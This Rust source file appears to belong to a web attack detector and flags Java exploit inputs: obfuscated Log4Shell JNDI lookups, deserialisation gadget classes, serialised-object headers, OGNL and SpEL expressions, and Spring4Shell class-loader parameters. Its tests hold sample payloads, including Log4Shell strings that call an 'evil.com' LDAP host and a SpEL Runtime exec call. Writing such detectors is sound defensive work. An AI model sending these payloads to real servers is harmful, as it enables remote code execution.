//! Java attacks: Log4Shell lookups (`${jndi:ldap://…}`), with nested lookups resolved
//! first (`${${lower:j}ndi:…}`, `${${::-j}${env:X:-n}di:…}`); references to the classes
//! exploit chains need (`java.lang.Runtime`, `ProcessBuilder`, `javax.script…`,
//! deserialisation gadgets); serialised Java objects (`rO0AB…`, `aced0005`); OGNL and SpEL
//! expressions (`%{(#_memberAccess…)}`, `T(java.lang.Runtime)`); Spring4Shell class-loader
//! parameters (`class.module.classLoader…`); and JSP uploads.

use regex::Regex;

use super::{Detector, Hit, Kind, Subject, Triggers};

/// Class simple names that only exploit chains need.
const DANGEROUS_CLASSES: &[&str] = &[
    "runtime",
    "processbuilder",
    "processimpl",
    "unixprocess",
    "classloader",
    "urlclassloader",
    "scriptengine",
    "scriptenginemanager",
    "xmldecoder",
    "objectinputstream",
    "invokertransformer",
    "chainedtransformer",
    "constanttransformer",
    "instantiatetransformer",
    "templatesimpl",
    "jdbcrowsetimpl",
    "lazymap",
    "transformedmap",
    "annotationinvocationhandler",
    "unsafe",
    "method",
    "beanshell",
    "interpreter",
    "jndimanager",
    "initialcontext",
    "remoteobjectinvocationhandler",
];

/// Lookup prefixes of Log4j 2 that read secrets or environment.
const LOOKUPS: &[&str] = &[
    "env:",
    "sys:",
    "java:",
    "main:",
    "ctx:",
    "k8s:",
    "docker:",
    "spring:",
    "web:",
    "bundle:",
    "log4j:",
    "marker:",
    "sd:",
    "map:",
    "event:",
    "base64:",
    "jvmrunargs:",
    "upper:",
    "lower:",
    "date:",
];

#[derive(Debug)]
struct Java {
    fqn: Regex,
    spel: Regex,
    /// Package prefixes that make a dotted name worth the [`Java::fqn`] regex.
    packages: aho_corasick::AhoCorasick,
    /// [`LITERALS`], compiled.
    literals: aho_corasick::AhoCorasick,
}

/// When a literal of [`LITERALS`] counts.
#[derive(Debug, Clone, Copy)]
enum Rule {
    Always,
    /// Only at the start of a token (base64 of a serialisation header).
    TokenStart,
    /// Only in argument names and values (data binding reaches the class loader).
    BindingName,
    /// Only in a value holding OGNL's `#` or `@`.
    Ognl,
}

/// Fixed strings of Java attacks, found with one automaton: gadget classes and calls,
/// serialisation headers, OGNL contexts, Spring4Shell binding paths.
const LITERALS: &[(&str, f32, Rule)] = &[
    ("java.runtime", 0.8, Rule::Always),
    ("java.processbuilder", 0.8, Rule::Always),
    ("java.classloader", 0.8, Rule::Always),
    ("processbuilder", 0.85, Rule::Always),
    ("getruntime(", 0.85, Rule::Always),
    (".getclass().forname", 0.85, Rule::Always),
    ("class.forname(", 0.85, Rule::Always),
    ("getdeclaredmethod(", 0.85, Rule::Always),
    ("defineclass(", 0.85, Rule::Always),
    ("newinstance()", 0.85, Rule::Always),
    ("invokertransformer", 0.85, Rule::Always),
    ("clonetransformer", 0.85, Rule::Always),
    ("instantiatetransformer", 0.85, Rule::Always),
    ("chainedtransformer", 0.85, Rule::Always),
    ("constanttransformer", 0.85, Rule::Always),
    ("instantiatefactory", 0.85, Rule::Always),
    ("prototypeclonefactory", 0.85, Rule::Always),
    ("prototypeserializationfactory", 0.85, Rule::Always),
    ("whileclosure", 0.85, Rule::Always),
    ("forclosure", 0.85, Rule::Always),
    ("templatesimpl", 0.85, Rule::Always),
    ("jdbcrowsetimpl", 0.85, Rule::Always),
    ("objectinputstream", 0.85, Rule::Always),
    ("xmldecoder", 0.85, Rule::Always),
    ("ro0ab", 0.85, Rule::TokenStart),
    ("kztaau", 0.85, Rule::TokenStart),
    ("cs7qaf", 0.85, Rule::TokenStart),
    ("aced0005", 0.9, Rule::TokenStart),
    ("\u{fffd}\u{fffd}\0\u{5}", 0.8, Rule::TokenStart),
    ("#_memberaccess", 0.9, Rule::Ognl),
    ("@java.lang", 0.9, Rule::Ognl),
    ("#context[", 0.9, Rule::Ognl),
    ("ognlcontext", 0.9, Rule::Ognl),
    ("@ognl.", 0.9, Rule::Ognl),
    ("#application", 0.9, Rule::Ognl),
    ("#request[", 0.9, Rule::Ognl),
    ("#parameters", 0.9, Rule::Ognl),
    ("(#_=", 0.9, Rule::Ognl),
    ("(#cmd", 0.9, Rule::Ognl),
    ("(#dm=", 0.9, Rule::Ognl),
    ("#attr[", 0.9, Rule::Ognl),
    ("@org.apache.struts2", 0.9, Rule::Ognl),
    (".getwriter()", 0.9, Rule::Ognl),
    ("#ognlutil", 0.9, Rule::Ognl),
    ("#container", 0.9, Rule::Ognl),
    ("(#iswin", 0.9, Rule::Ognl),
    ("#session[", 0.9, Rule::Ognl),
    ("class.module.classloader", 0.95, Rule::BindingName),
    ("class.classloader", 0.95, Rule::BindingName),
    (".classloader.resources", 0.95, Rule::BindingName),
    ("class['classloader']", 0.95, Rule::BindingName),
    ("class[classloader]", 0.95, Rule::BindingName),
    ("module.classloader", 0.95, Rule::BindingName),
];

/// Prefixes of the packages [`Java::fqn`] knows.
const PACKAGES: &[&str] = &[
    "java",
    "jdk.",
    "sun.",
    "org.",
    "com.sun",
    "com.opensymphony",
    "com.alibaba",
    "com.mchange",
    "com.thoughtworks",
    "com.ibm",
    "bsh.",
    "groovy",
    "ognl",
    "freemarker",
    "weblogic",
];

/// Substrings at least one of which every pattern below contains: a value without any
/// skips the regexes.
const ANCHORS: &[&str] = &[
    "java",
    "jdk.",
    "sun.",
    "org.",
    "com.",
    "bsh.",
    "groovy",
    "ognl",
    "freemarker",
    "weblogic",
    "processbuilder",
    "runtime",
    "forname",
    "getdeclaredmethod",
    "defineclass",
    "newinstance",
    "transformer",
    "templatesimpl",
    "rowsetimpl",
    "objectinputstream",
    "xmldecoder",
    "ro0ab",
    "kztaau",
    "cs7qaf",
    "aced0005",
    "\u{fffd}\u{fffd}",
    "#",
    "@",
    "t(",
    "t (",
    "class",
];

pub(crate) fn build() -> Box<dyn Detector> {
    let fqn = Regex::new(
        r"(?:^|[^\w.])(java|javax|jdk|sun|com\.sun|org\.apache\.(?:commons\.collections|xalan|xbean|tomcat|catalina|naming|bcel|struts2|myfaces)|org\.springframework|com\.opensymphony|org\.codehaus\.groovy|org\.omg|org\.mozilla\.javascript|org\.hibernate|bsh|groovy|ognl|freemarker\.template|com\.alibaba\.fastjson|org\.yaml\.snakeyaml|com\.mchange|org\.jboss|weblogic|com\.ibm\.ws|org\.python|com\.thoughtworks\.xstream|org\.apache\.commons|org\.apache)\.([a-z_$][\w$]*)(\.[\w$]+)*",
    )
    .expect("static regex compiles");
    let spel = Regex::new(r"(?:^|[^\w])t\s*\(\s*(?:java|javax|org|com|sun)\.")
        .expect("static regex compiles");
    let packages = super::automaton(PACKAGES);
    let literals = super::automaton(LITERALS.iter().map(|(l, _, _)| l));
    Box::new(Java {
        literals,
        fqn,
        spel,
        packages,
    })
}

/// Resolves Log4j lookups innermost first; returns the byte offset of a `${jndi:` found
/// once nested lookups are replaced by what they evaluate to, and whether any secret-reading
/// lookup appeared.
pub(crate) fn log4j(lower: &str) -> (Option<usize>, bool) {
    let mut s: String = lower
        .chars()
        .filter(|c| !c.is_whitespace() || *c == ' ')
        .take(8192)
        .collect();
    let mut secret = false;
    for _ in 0..64 {
        let Some(open) = innermost(&s) else { break };
        let close = match s[open + 2..].find('}') {
            Some(c) => open + 2 + c,
            None => break,
        };
        let content = s[open + 2..close].to_owned();
        if content.starts_with("jndi:") || content.starts_with("jndi :") {
            return (Some(open.min(lower.len())), true);
        }
        if LOOKUPS.iter().any(|l| content.starts_with(l)) && !content.starts_with("date:") {
            secret = true;
        }
        let value = evaluate(&content);
        s.replace_range(open..=close, &value);
    }
    let jndi_marker = s.contains("${jndi:");
    (jndi_marker.then_some(0), secret)
}

/// Index of a `${` with no other `${` before its closing brace.
fn innermost(s: &str) -> Option<usize> {
    let mut last_open = None;
    for (i, _) in s.match_indices("${") {
        match last_open {
            Some(o) if !s[o..i].contains('}') => last_open = Some(i),
            Some(_) => break,
            None => last_open = Some(i),
        }
    }
    last_open
}

/// What a non-JNDI lookup evaluates to, as far as the payload's spelling is concerned.
fn evaluate(content: &str) -> String {
    if let Some(d) = content.rfind(":-") {
        return content[d + 2..].to_owned();
    }
    for p in ["lower:", "upper:"] {
        if let Some(v) = content.strip_prefix(p) {
            return v.to_owned();
        }
    }
    if let Some(v) = content.strip_prefix("date:") {
        return v.trim_matches('\'').to_owned();
    }
    String::new()
}

impl Detector for Java {
    fn triggers(&self) -> Triggers {
        let mut t = Triggers::bytes_or_words(b"$#@", ANCHORS);
        t.words.push("jsp");
        t
    }

    fn inspect<'a>(&self, s: &Subject<'a>) -> Option<Hit<'a>> {
        let lower = s.lower;
        let mut best = (0.0f32, 0usize, 0usize);
        let mut take = |c: f32, a: usize, e: usize| {
            if c > best.0 {
                best = (c, a, e);
            }
        };
        if s.bytes.has(b'$') && s.bytes.has(b'{') {
            let (jndi, secret) = log4j(lower);
            if let Some(at) = jndi {
                take(1.0, at, lower.len().min(at + 80));
            } else if secret {
                let at = lower.find("${").unwrap_or(0);
                take(0.8, at, lower.len().min(at + 80));
            }
        }
        if s.kind == Kind::Filename || (s.kind == Kind::Header && s.name.contains("file")) {
            let n = lower.trim_end_matches(['.', ' ']);
            if let Some((_, ext)) = n.rsplit_once('.') {
                if matches!(ext.trim(), "jsp" | "jspx" | "jspf" | "jsw" | "jsv" | "jtml") {
                    take(0.85, 0, lower.len());
                }
            }
        }
        if s.word_hit {
            if s.bytes.has(b'.') {
                let packaged = self.packages.is_match(lower);
                for m in self
                    .fqn
                    .captures_iter(lower)
                    .take(if packaged { 32 } else { 0 })
                {
                    let whole = m.get(0).map_or(0..0, |g| g.range());
                    let pkg = m.get(1).map_or("", |g| g.as_str());
                    let seg = m.get(2).map_or("", |g| g.as_str());
                    let more = m.get(3).is_some();
                    let text = &lower[whole.clone()];
                    let dangerous = DANGEROUS_CLASSES.iter().any(|c| text.contains(c))
                        || text.contains("getruntime")
                        || text.contains(".exec")
                        || text.contains("reflect")
                        || text.contains("script");
                    let c = if dangerous {
                        0.9
                    } else if more || pkg.contains('.') {
                        0.8
                    } else if pkg == "java" || pkg == "javax" {
                        // `java.io`, `javax.naming`: a package without a class is weaker.
                        if matches!(
                            seg,
                            "lang"
                                | "io"
                                | "net"
                                | "nio"
                                | "rmi"
                                | "beans"
                                | "naming"
                                | "script"
                                | "management"
                                | "security"
                                | "util"
                        ) {
                            0.75
                        } else {
                            0.0
                        }
                    } else {
                        0.0
                    };
                    take(c, whole.start, whole.end);
                }
            }
            for m in self.literals.find_overlapping_iter(lower) {
                let (lit, c, rule) = LITERALS[m.pattern().as_usize()];
                let k = m.start();
                let applies = match rule {
                    Rule::Always => true,
                    // Base64 of a stream header only counts at a token start.
                    Rule::TokenStart => k == 0 || !lower.as_bytes()[k - 1].is_ascii_alphanumeric(),
                    Rule::BindingName => matches!(s.kind, Kind::ArgName | Kind::ArgValue),
                    Rule::Ognl => s.bytes.any(b"#@"),
                };
                if applies {
                    take(c, k, (k + lit.len() + 40).min(lower.len()));
                }
            }
            // OGNL (Struts): an expression opened by `%{`, `${` or `#{` that assigns with `(#`.
            if s.bytes.any(b"#@")
                && (lower.contains("%{") || lower.contains("${") || lower.contains("#{"))
                && lower.contains("(#")
            {
                take(0.85, 0, lower.len().min(80));
            }
            if s.bytes.has(b'(')
                && (lower.contains("java")
                    || lower.contains("org.")
                    || lower.contains("com.")
                    || lower.contains("sun."))
            {
                if let Some(m) = self.spel.find(lower) {
                    take(0.95, m.start(), (m.end() + 40).min(lower.len()));
                }
            }
        }
        let (c, a, e) = best;
        (c > 0.0).then(|| Hit::at(c, s.text, a, e))
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::detect::testing::{arg, score};

    #[test]
    fn resolves_nested_log4j_lookups() {
        let d = build();
        for v in [
            "${jndi:ldap://evil.com/a}",
            "${${lower:j}ndi:ldap://evil.com/a}",
            "${${::-j}${::-n}${::-d}${::-i}:rmi://x/y}",
            "${${env:NaN:-j}ndi${env:NaN:-:}${env:NaN:-l}dap://x}",
            "$&lbrace;jndi:ldap://evil.com/webshell}",
            "&#x24;&#000000123;jndi:ldap://evil.om/w}",
            "%24%7Bjndi%3Aldap%3A%2F%2Fevil.com%2Fa%7D",
            "${upper:j}${upper:n}${lower:d}i",
        ] {
            let s = arg(&*d, v);
            assert!(s >= 0.7, "{v}: {s}");
        }
    }

    #[test]
    fn flags_classes_gadgets_and_expressions() {
        let d = build();
        for v in [
            "java.lang.Runtime",
            "java.io.FileOutputStream",
            "javax.script.ScriptEngineManager",
            "com.opensymphony.xwork2.ActionContext",
            "T(java.lang.Runtime).getRuntime().exec('id')",
            "%{(#_memberAccess['allowStaticMethodAccess']=true)}",
            "rO0ABXNyABdqYXZhLnV0aWwuUHJpb3JpdHlRdWV1ZQ",
            "new ProcessBuilder('id').start()",
        ] {
            let s = arg(&*d, v);
            assert!(s >= 0.7, "{v}: {s}");
        }
        assert!(
            score(
                &*d,
                Kind::ArgName,
                "class.module.classLoader.resources.context.parent.pipeline.first.pattern",
                "class.module.classLoader.resources.context.parent.pipeline.first.pattern"
            ) >= 0.7
        );
        assert!(score(&*d, Kind::Filename, "f", "shell.jsp ") >= 0.7);
    }

    #[test]
    fn ignores_templates_domains_and_prose() {
        let d = build();
        for v in [
            "Hello ${name}, your total is ${total}",
            "Download from www.java.com today",
            "I love java. It runs everywhere.",
            "the runtime of the movie",
            "org.example.MyClass",
            "#{user.name}",
        ] {
            let s = arg(&*d, v);
            assert!(s < 0.7, "{v}: {s}");
        }
    }
}
